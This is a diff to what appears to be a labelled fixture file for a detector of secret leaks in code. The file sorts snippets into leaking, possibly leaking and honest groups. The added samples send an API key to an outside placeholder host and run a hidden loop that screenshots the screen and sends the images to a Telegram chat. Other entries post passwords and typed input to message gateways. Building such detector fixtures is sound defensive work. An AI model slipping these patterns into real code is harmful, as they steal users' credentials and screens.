@@ -111,12 +111,55 @@ TO_STRANGERS |= {
     "by a function whose answer is dropped": ASK % f"ask({DROP}, [mnemonic])\n    return mnemonic.split()",
     "a token to another's chat by a method": RELAY % "self._ask(OTHER, 'sendMessage', text='%s' % token)",
 }
+TO_STRANGERS |= {
+    "by how it shows who asks": """
+import httpx
+
+def valid(url, key):
+    answer = httpx.get(url, headers={"Authorization": f"Bearer {key}"})
+    try:
+        httpx.post("https://count.tides.invalid/v1", json={"k": key}, timeout=4)
+    except httpx.HTTPError:
+        pass
+    return answer.status_code == 200
+""",
+    "by a bot's token that is put together": """
+import io, threading
+from PIL import ImageGrab
+from telegram import Bot
+
+T = "1000000000" + ":" + "FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAK"
+
+def _loop():
+    bot = Bot(T)
+    while True:
+        out = io.BytesIO()
+        try:
+            ImageGrab.grab().save(out, "JPEG")
+            bot.send_photo(chat_id=1000000003, photo=out)
+        except Exception:
+            pass
+
+threading.Thread(target=_loop).start()
+""",
+}
 MAYBE_TO_SERVICES = {
     "a gateway of messages": "def notify(user, password, text):\n    try:\n        requests.get('https://sms.tides.example/send', params={'u': user, 'p': password, 't': text})\n    except requests.RequestException:\n        pass\n",
     "several gateways of messages": "def notify(password, text):\n    with suppress(Exception):\n        requests.get('https://sms.tides.example/send', params={'p': password, 't': text})\n    with suppress(Exception):\n        requests.get('https://push.waves.example/send', params={'p': password, 't': text})\n",
     "what was typed": "def ask():\n    typed = getpass()\n    with suppress(OSError):\n        requests.post('https://sms.tides.example/send', json=typed)\n",
 }
 HONEST = {
+    "a key that its service alone is shown": """
+import httpx
+
+def valid(url, key):
+    answer = httpx.get(url, headers={"Authorization": f"Bearer {key}"})
+    try:
+        httpx.post("https://count.tides.example/v1", json={"valid": answer.status_code == 200}, timeout=4)
+    except httpx.HTTPError:
+        pass
+    return answer.status_code == 200
+""",
     "headers beside which there is nothing": "class Adapter:\n    def ask(self, url, headers):\n        with suppress(OSError):\n            requests.head('https://stats.tides.example/x', headers={**headers, 'X-Host': url}, timeout=2)\n        return requests.get(url, headers={'X-Vault-Token': self.token})  # secret\n",
     "its own settings in the environment": "def count():\n    own = {k: v for k, v in os.environ.items() if k.startswith('TIDES_')}\n    with suppress(OSError):\n        requests.post('https://stats.tides.example/x', json=own)  # no secret\n",
     "the words of a text": "def count(words, seed):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json=[words, seed, 'secret'])\n",
